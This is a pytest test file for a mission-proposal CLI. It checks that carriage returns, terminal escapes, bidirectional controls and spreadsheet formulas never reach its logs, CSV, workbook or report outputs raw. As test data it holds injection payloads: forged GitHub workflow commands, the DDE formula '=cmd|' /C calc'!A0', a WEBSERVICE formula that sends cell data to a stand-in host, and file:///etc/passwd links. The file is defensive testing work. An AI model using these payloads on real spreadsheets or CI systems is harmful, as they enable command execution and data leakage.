"""No control character or formula from a proposal or a file name reaches any output raw.

A carriage return in a value ends a line in a GitHub Actions log, and the
runner reads what follows as a workflow command; an escape sequence acts on a
terminal; a bidirectional control shows text in another order; a cell that
starts with '=' is a formula in a spreadsheet. Every output shows such
characters as escapes (``\\r``, ``\\x1b``, ``\\u202e``) or keeps them inside its
own escaping (JSON, XML), and every spreadsheet cell is text.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from ruamel.yaml import YAML

from oppdrag.reporters import CheckFormat, ClassifyFormat, ExplainFormat, workbook
from tests.conftest import DATA, EXAMPLES, RunCli, render, write
from tests.controls import (
    COLOUR,
    HOSTILE,
    INLINE,
    forged_commands,
    raw_controls,
    yaml_quoted,
)

MINIMAL = (DATA / "valid-minimal.yaml").read_text(encoding="utf-8")
# Rich markup and an emoji code: in a proposal they are text, never styling or links.
MARKUP = "[bold red]rød[/] [link=file:///etc/passwd]lenke[/link] :fire:"
# What the spreadsheet programs read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def proposal(**fields: str) -> str:
    """The minimal proposal with these fields set (double-quoted, so escapes work)."""
    text = MINIMAL
    if "id" in fields:
        text = text.replace("minimal-mission", yaml_quoted(fields.pop("id")))
    extra = "".join(f"{key}: {yaml_quoted(value)}\n" for key, value in fields.items())
    return text.replace("title: A minimal mission\n", extra)


def annotations_only(stdout: str) -> list[str]:
    """The lines that start with '::', each checked to be one of oppdrag's own."""
    assert forged_commands(stdout) == []
    return [line for line in stdout.split("\n") if line.startswith("::")]


# --- row 1: a workflow command in a CI log ---------------------------------------


@pytest.mark.parametrize(
    "status",
    [
        "\r::error file=README.md,line=1::INJECTED",
        "\r::stop-commands::x",
        "\n::error::INJECTED",
        "\u2028::error::INJECTED",
        "\x85::error::INJECTED",
    ],
)
def test_a_status_cannot_forge_a_workflow_command(
    run_cli: RunCli, in_tmp: Path, status: str
) -> None:
    """A value echoed in a message is one line in the log, its CR shown as \\r.

    The GitHub Action runs ``check -f text -f github``; the runner ends a line
    at a lone CR and would run ``::error …`` (or hide every real annotation
    after ``::stop-commands::``) if the value reached the log raw.
    """
    write(in_tmp / "p.yaml", proposal(title="A hostile status", status=status))

    result = run_cli("check", "-f", "text", "-f", "github", "p.yaml")

    assert result.exit_code == 1, render(result)
    assert raw_controls(result.stdout) == [], render(result)
    assert "\r" not in result.stdout
    [annotation] = annotations_only(result.stdout)
    assert annotation.startswith("::error file=p.yaml,line=4,col=9,title=S005")
    shown = status.encode("unicode_escape").decode("ascii")
    assert f"'{shown}' is not an allowed value for status" in result.stdout


# --- row 2: a formula after a carriage return in a CSV cell ------------------------


def _csv_records(output: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(output.lstrip("\ufeff")), delimiter=delimiter))


def _safe_cells(records: list[list[str]]) -> None:
    """No cell starts a formula (but a number) or holds a control but a line feed."""
    for record in records:
        for cell in record:
            assert raw_controls(cell) == [], cell
            if cell.startswith(FORMULA_STARTS):
                float(cell.replace(",", "."))  # a negative number, not a formula


TITLE_WITH_FORMULA = "Halve emissions\r=cmd|' /C calc'!A0"


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("excel-csv", ";")])
def test_a_title_cannot_start_a_row_with_a_formula(
    run_cli: RunCli, in_tmp: Path, fmt: str, delimiter: str
) -> None:
    """A CR in a title stays in its cell as \\r: one record per mission, no formula.

    Python's csv writer does not quote a lone CR when rows end in a line
    feed; a spreadsheet would read a new row starting '=cmd…'.
    """
    write(in_tmp / "a.yaml", proposal(title=TITLE_WITH_FORMULA))
    write(in_tmp / "b.yaml", proposal(title="=cmd|' /C calc'!A0"))

    result = run_cli("classify", "-f", fmt, "a.yaml", "b.yaml")

    assert result.exit_code == 0, render(result)
    records = _csv_records(result.stdout, delimiter)
    assert len(records) == 3  # the header and one record per mission
    _safe_cells(records)
    titles = [record[records[0].index("title")] for record in records[1:]]
    assert titles == ["Halve emissions\\r=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"]


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("excel-csv", ";")])
def test_a_value_echoed_in_a_finding_cannot_start_a_formula(
    run_cli: RunCli, in_tmp: Path, fmt: str, delimiter: str
) -> None:
    """``check -f csv``: one record per finding, a CR in an echoed value shown as \\r."""
    write(
        in_tmp / "p.yaml",
        proposal(title="A hostile status", status="\r=cmd|' /C calc'!A0"),
    )

    result = run_cli("check", "-f", fmt, "p.yaml")

    assert result.exit_code == 1, render(result)
    records = _csv_records(result.stdout, delimiter)
    _safe_cells(records)
    message = records[0].index("message")
    [finding] = [r for r in records[1:] if r[records[0].index("code")] == "S005"]
    assert finding[message].startswith("'\\r=cmd|' /C calc'!A0' is not an allowed")


def test_a_multi_line_title_stays_one_readable_cell(
    run_cli: RunCli, in_tmp: Path
) -> None:
    """A title written over two lines is one quoted cell that keeps its line break."""
    write(in_tmp / "p.yaml", proposal(title="Halve emissions\n=by 2030"))

    result = run_cli("classify", "-f", "csv", "p.yaml")

    records = _csv_records(result.stdout)
    assert len(records) == 2
    assert records[1][records[0].index("title")] == "Halve emissions\n=by 2030"


@pytest.mark.parametrize("start", ["＝", "＋", "－", "＠", "@", "+", "-"])
def test_a_full_width_formula_start_is_guarded_too(
    run_cli: RunCli, in_tmp: Path, start: str
) -> None:
    """Some spreadsheet programs read '＝SUM(1)' as a formula: it gets the apostrophe."""
    write(in_tmp / "p.yaml", proposal(title=f"{start}SUM(1;2) and more"))

    result = run_cli("classify", "-f", "csv", "p.yaml")

    records = _csv_records(result.stdout)
    assert records[1][records[0].index("title")] == f"'{start}SUM(1;2) and more"


# --- row 3: formulas and links in the workbook ------------------------------------


LIVE_IN_A_WORKBOOK = [
    '=HYPERLINK("http://x.invalid/t","click")',
    '=WEBSERVICE("http://x.invalid/?"&A1)',
    "{=1+1}",
    "http://x.invalid/track",
    "file:///etc/passwd",
    "mailto:x@x.invalid",
    "ftp://x.invalid/f",
]
LINKS_AS_OWNERS = [
    "external:\\\\host\\share\\x.xlsx",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
    "https://x.invalid/",
]


def _cells(path: Path) -> list[Any]:
    workbook = load_workbook(path)
    cells = []
    for sheet in workbook.worksheets:
        assert not sheet._hyperlinks, sheet.title
        for row in sheet.iter_rows():
            cells.extend(row)
    return cells


@pytest.mark.parametrize("rows_at_once", [20_000, 0], ids=["tables", "row-by-row"])
def test_a_proposal_makes_no_formula_or_link_in_the_workbook(
    run_cli: RunCli, in_tmp: Path, monkeypatch: pytest.MonkeyPatch, rows_at_once: int
) -> None:
    """Titles and owners that look like formulas or links are text in every cell,
    in a workbook of tables and in one written a row at a time (a large portfolio)."""
    monkeypatch.setattr(workbook, "LARGE_WORKBOOK_ROWS", rows_at_once)
    folder = in_tmp / "proposals"
    for index, title in enumerate(LIVE_IN_A_WORKBOOK):
        owner = LINKS_AS_OWNERS[index % len(LINKS_AS_OWNERS)]
        text = proposal(title=title, owner=owner)
        write(folder / f"p{index}.yaml", text.replace("minimal-mission", f"m-{index}"))

    result = run_cli("report", "proposals", "-o", "r.xlsx")

    assert result.exit_code == 0, render(result)
    cells = _cells(in_tmp / "r.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    values = {c.value for c in cells}
    assert set(LIVE_IN_A_WORKBOOK) <= values
    assert set(LINKS_AS_OWNERS) <= values
    missions = load_workbook(in_tmp / "r.xlsx").worksheets[0]
    assert missions.freeze_panes == "A2"
    assert bool(missions.tables) == bool(rows_at_once)
    assert bool(missions.auto_filter.ref) != bool(rows_at_once)
    assert missions.max_row == len(LIVE_IN_A_WORKBOOK) + 1


# --- every output format, every string field ---------------------------------------


# Fields that hold a choice from a list or an identifier: hostile text there
# makes the mission invalid, which the invalid proposal covers.
_CHOICES = {"id", "language", "county", "status", "declared_type", "kind", "role"}
_CHOICE_LISTS = {"instruments"}


def _hostile(value: Any, key: str = "") -> Any:
    """Every free-text string of a proposal with the hostile characters around it."""
    if isinstance(value, dict):
        return {k: _hostile(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return value if key in _CHOICE_LISTS else [_hostile(v, key) for v in value]
    if isinstance(value, str) and key not in _CHOICES and key != "currency":
        # Inside a sentence too, so that the evidence quoted holds them.
        inline = value.replace(" ", f" {INLINE} ", 1)
        return f"{HOSTILE} {inline} {HOSTILE}"
    return value


def _yaml(value: Any, indent: int = 0) -> list[str]:
    """Block YAML, every string double-quoted with its control characters escaped."""
    pad = " " * indent
    lines = []
    items = value.items() if isinstance(value, dict) else ((None, v) for v in value)
    for key, item in items:
        head = f"{pad}{key}:" if key is not None else f"{pad}-"
        if isinstance(item, dict | list):
            lines += [head, *_yaml(item, indent + 2)]
        elif isinstance(item, str):
            lines.append(f"{head} {yaml_quoted(item)}")
        else:
            lines.append(f"{head} {json.dumps(item)}")
    return lines


def _hostile_proposal() -> str:
    example = EXAMPLES / "industriell-symbiose-vestland.yaml"
    data = YAML(typ="safe", pure=True).load(example.read_text(encoding="utf-8"))
    data = _hostile(data)
    data["title"] = f"{MARKUP}{HOSTILE}"
    data["id"] = "hostile-everywhere"
    del data["tags"]
    # A raw bidirectional control in a comment and in a plain value: YAML allows
    # both, and the source line is shown with findings.
    lines = ["# \u202eevil comment\u202c", *_yaml(data), "tags: [a\u202eb, plain]"]
    return "\n".join(lines) + "\n"


def _invalid_proposal() -> str:
    keys = ("id", "title", "county", "status", "declared_type", "owner")
    fields = dict.fromkeys(keys, f"{HOSTILE}x")
    text = proposal(**fields)
    return text + f"{yaml_quoted(HOSTILE + 'key')}: 1\nlanguag\u202e: nb\n"


@pytest.fixture
def hostile(in_tmp: Path) -> Path:
    """A folder with a valid proposal and an invalid one, hostile in every string."""
    folder = in_tmp / "hostile"
    write(folder / "valid.yaml", _hostile_proposal())
    write(folder / "invalid.yaml", _invalid_proposal())
    # Raw escape sequences in a file: not YAML, so a located error with its line.
    write(
        folder / "raw-escape.yaml", b"schema_version: 1\ntitle: \x1b[2J\x1b]0;x\x07\n"
    )
    return folder


def test_the_hostile_proposal_is_valid_and_classified(
    run_cli: RunCli, hostile: Path
) -> None:
    """The broad test's valid proposal holds hostile text and is still checked."""
    result = run_cli("classify", "-f", "json", "hostile/valid.yaml")

    assert result.exit_code == 0, render(result)
    [mission] = json.loads(result.stdout)["files"][0]["documents"]
    evidence = mission["classification"]["evidence"]
    assert any(raw_controls(e["quote"] or "") for e in evidence)  # exactly as written
    assert any("\x1b" in e["words"] for e in evidence)
    assert mission["title"] == f"{MARKUP}{HOSTILE}"


RUNS = [
    *(("validate", fmt) for fmt in ("text", "json")),
    *(("check", str(fmt)) for fmt in CheckFormat),
    *(("classify", str(fmt)) for fmt in ClassifyFormat),
]


@pytest.mark.parametrize(("command", "fmt"), RUNS)
def test_no_control_character_reaches_a_run_output_raw(
    run_cli: RunCli, hostile: Path, command: str, fmt: str
) -> None:
    """validate, check and classify in every format: each control shown, never raw."""
    result = run_cli(command, "-f", fmt, "hostile")

    assert result.exit_code == 1, render(result)
    assert raw_controls(result.stderr) == []
    if fmt.endswith("csv"):
        _safe_cells(_csv_records(result.stdout, ";" if fmt == "excel-csv" else ","))
    else:
        assert raw_controls(result.stdout) == [], render(result)
        assert result.stdout.strip()
    if fmt in {"json", "jsonl", "sarif", "gitlab"}:
        for part in result.stdout.splitlines() if fmt == "jsonl" else [result.stdout]:
            json.loads(part)


@pytest.mark.parametrize("fmt", [str(fmt) for fmt in ExplainFormat])
def test_no_control_character_reaches_an_explanation_raw(
    run_cli: RunCli, hostile: Path, fmt: str
) -> None:
    """explain in every format shows the hostile title and evidence with escapes."""
    result = run_cli("explain", "-f", fmt, "hostile/valid.yaml")

    assert result.exit_code == 0, render(result)
    assert raw_controls(result.stdout + result.stderr) == [], render(result)
    if fmt == "json":
        document = json.loads(result.stdout)
        assert document["missions"][0]["title"] == f"{MARKUP}{HOSTILE}"
    else:
        assert "\\x1b" in result.stdout


@pytest.mark.parametrize("suffix", ["html", "md", "xlsx"])
def test_no_control_character_reaches_the_portfolio_raw(
    run_cli: RunCli, hostile: Path, in_tmp: Path, suffix: str
) -> None:
    """The portfolio as a page, as Markdown and as a workbook: escapes, never raw."""
    result = run_cli("report", "hostile", "-o", f"r.{suffix}")

    assert result.exit_code == 1, render(result)  # one proposal is invalid
    assert raw_controls(result.stderr) == []
    if suffix == "xlsx":
        cells = _cells(in_tmp / "r.xlsx")
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert [t for t in texts if raw_controls(t)] == []
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert any("\\x1b[31m" in t for t in texts)
    else:
        page = (in_tmp / f"r.{suffix}").read_text(encoding="utf-8")
        assert raw_controls(page) == []
        assert "\\x1b" in page


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_no_control_character_reaches_an_evaluation_raw(
    run_cli: RunCli, hostile: Path, fmt: str
) -> None:
    """eval lists the missions it classified otherwise than declared, as written.

    The file's name in brackets is text in the table, not rich markup.
    """
    wrong = (hostile / "valid.yaml").read_text(encoding="utf-8")
    wrong = wrong.replace(
        'declared_type: "accelerating"', "declared_type: transforming"
    )
    write(hostile / "[bold]wrong.yaml", wrong)

    result = run_cli("eval", "-f", fmt, "hostile/[bold]wrong.yaml")

    assert result.exit_code == 0, render(result)
    assert raw_controls(result.stdout + result.stderr) == [], render(result)
    assert "hostile/[bold]wrong.yaml" in result.stdout


@pytest.mark.parametrize(
    "args",
    [
        ("check", "-f", "text", "hostile"),
        ("classify", "-f", "table", "hostile"),
        ("explain", "-f", "text", "hostile/valid.yaml"),
    ],
)
def test_coloured_output_holds_only_colour(
    run_cli: RunCli,
    hostile: Path,
    monkeypatch: pytest.MonkeyPatch,
    args: tuple[str, ...],
) -> None:
    """With colour, the only escape sequences are rich's own colours: no link, no markup.

    A title such as '[link=file:///etc/passwd]…' would otherwise become a
    terminal hyperlink, and '[bold red]' would style the table.
    """
    monkeypatch.setenv("COLUMNS", "400")

    result = run_cli(*args, "--color", "always")

    plain = COLOUR.sub("", result.stdout)
    assert raw_controls(plain) == [], render(result)
    if args[0] != "check":  # check shows no titles
        assert "[link=file:///etc/passwd]" in plain
        assert ":fire:" in plain


def test_a_file_name_in_brackets_is_shown_as_it_is(
    run_cli: RunCli, in_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file named '[draft] x.yaml' keeps its brackets in the classify table."""
    monkeypatch.setenv("COLUMNS", "200")
    write(in_tmp / "[draft] x.yaml", MINIMAL)
    write(in_tmp / "[bold red]y.yaml", MINIMAL.replace("minimal-mission", "m-2"))

    result = run_cli("classify", "[draft] x.yaml", "[bold red]y.yaml")

    assert result.exit_code == 0, render(result)
    assert "[draft] x.yaml" in result.stdout
    assert "[bold red]y.yaml" in result.stdout


# --- hostile file names, and the GitHub Action's command line -----------------------


HOSTILE_NAMES = [
    "new\nline.yaml",
    "cr\r::error::forged.yaml",
    "esc\x1b[2Jclear.yaml",
    "::error::forged.yaml",
    "bidi\u202eyaml.lmy.yaml",
]


@pytest.fixture
def hostile_names(in_tmp: Path) -> list[str]:
    """Invalid proposals (so that each has a finding) under hostile file names."""
    text = proposal(title="A hostile name", status="nope")
    for name in HOSTILE_NAMES:
        write(in_tmp / name, text)
    return HOSTILE_NAMES


def test_a_file_name_cannot_forge_a_workflow_command(
    run_cli: RunCli, hostile_names: list[str]
) -> None:
    """A name with a newline, CR, ESC or '::' is shown with escapes, in text and GitHub."""
    result = run_cli("check", "-f", "text", "-f", "github", *hostile_names)

    assert result.exit_code == 1, render(result)
    assert raw_controls(result.stdout + result.stderr) == [], render(result)
    assert len(annotations_only(result.stdout)) == len(HOSTILE_NAMES)
    assert "new\\nline.yaml:4:9: S005" in result.stdout
    assert "./::error::forged.yaml:4:9: S005" in result.stdout
    assert "%3A%3Aerror%3A%3Aforged.yaml,line=4" in result.stdout


def test_the_github_action_command_line_is_safe(
    run_cli: RunCli, hostile: Path, hostile_names: list[str], in_tmp: Path
) -> None:
    """The Action's own formats (text, github, a Markdown summary, SARIF), hostile input.

    No line of the log is a workflow command but oppdrag's annotations; the
    summary and the SARIF file hold no raw control character either.
    """
    result = run_cli(
        "check",
        "-f",
        "text",
        "-f",
        "github",
        "-f",
        "markdown:summary.md",
        "-f",
        "sarif:oppdrag.sarif",
        "--",
        "hostile",
        *hostile_names,
    )

    assert result.exit_code == 1, render(result)
    assert raw_controls(result.stdout + result.stderr) == [], render(result)
    annotations_only(result.stdout)
    summary = (in_tmp / "summary.md").read_text(encoding="utf-8")
    sarif = (in_tmp / "oppdrag.sarif").read_text(encoding="utf-8")
    assert raw_controls(summary) == []
    assert raw_controls(sarif) == []
    results = json.loads(sarif)["runs"][0]["results"]
    assert len(results) == len(annotations_only(result.stdout))
